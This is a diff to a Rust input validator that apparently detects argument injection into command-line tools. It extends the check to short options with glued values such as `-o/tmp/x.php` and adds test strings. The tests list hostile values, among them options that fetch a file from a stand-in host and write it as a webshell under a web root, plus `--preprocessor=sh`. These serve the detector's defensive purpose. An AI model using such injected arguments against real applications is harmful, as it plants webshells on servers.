@@ -1102,10 +1102,14 @@ fn script_output_option(name: &[u8], v: &[u8], after: usize) -> bool {
     // application's `convert "UPLOAD" out.png` whose file argument the value closes with a
     // quote); its `msl:` coder runs the Magick Scripting Language file instead of writing.
     let write = name.eq_ignore_ascii_case(b"write");
-    if !(output || write) || !matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) {
+    // (a short option takes its value glued on too: `-o/tmp/x.php`)
+    let glued = name.len() == 1 && matches!(v.get(after), Some(b'/' | b'.' | b'~'));
+    if !(output || write)
+        || !(glued || matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')))
+    {
         return false;
     }
-    let path = option_value(v, after, 256, |c| {
+    let path = option_value(v, after - usize::from(glued), 256, |c| {
         !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"' | b';' | b'|' | b'&')
     });
     system_write_target(path)
@@ -1677,6 +1681,8 @@ mod tests {
             "http://evil.example/s.txt -o /var/www/html/s.php",
             "-O ../uploads/shell.jsp",
             "--output-document=/srv/www/x.aspx",
+            "-o/tmp/x.php",
+            "x -o/var/www/html/s.php http://evil.example/s.txt",
             "--preprocessor=sh",
             "--exec-path=/tmp",
             "--exec-path=/dev/shm/x",
@@ -1746,6 +1752,8 @@ mod tests {
             "--recommand=id",
             "-o output.php",
             "-o /tmp/report.pdf",
+            "-o/tmp/report.pdf",
+            "-ooutput.php",
             "--output=/var/www/html/index.html",
             "$IFS-o",
             "--filter=price",
